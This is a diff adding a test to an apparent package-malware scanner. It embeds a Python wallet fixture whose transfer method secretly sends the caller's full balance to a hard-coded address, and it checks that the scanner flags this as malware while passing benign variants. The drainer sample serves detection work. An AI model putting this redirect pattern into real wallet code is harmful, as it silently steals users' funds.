@@ -713,3 +713,27 @@ test('the half of a key that requests are signed with is never sent: who is told
   );
   expect(asked.every(({ score }) => score <= 1)).toBe(true);
 });
+
+test('all that a key of the caller’s opens, sent to an account that stands in the code, is stolen; what the caller sends is not', async () => {
+  const sender = (to: string, value: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/wallet.py': python(
+        'from web3 import Web3',
+        'class Sender:',
+        '    def __init__(self, rpc): self.w3 = Web3(Web3.HTTPProvider(rpc))',
+        '    def transfer(self, private_key, to, value):',
+        '        account = self.w3.eth.account.from_key(private_key)',
+        '        held = self.w3.eth.get_balance(account.address)',
+        `        order = {'to': ${to}, 'value': ${value}, 'gas': 21000, 'chainId': 1}`,
+        '        self.w3.eth.send_raw_transaction(account.sign_transaction(order).rawTransaction)',
+      ),
+    });
+  const fixed = "'0x00000000000000000000000000000000000000aA'";
+
+  expect(await inspect('secret-parameter', sender(fixed, 'held - 21000 * self.w3.eth.gas_price'))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 8 },
+  ]);
+  expect(await inspect('secret-parameter', sender('to', 'held - 21000 * self.w3.eth.gas_price'))).toEqual([]);
+  // a fee
+  expect(await inspect('secret-parameter', sender(fixed, '1000'))).toEqual([]);
+});
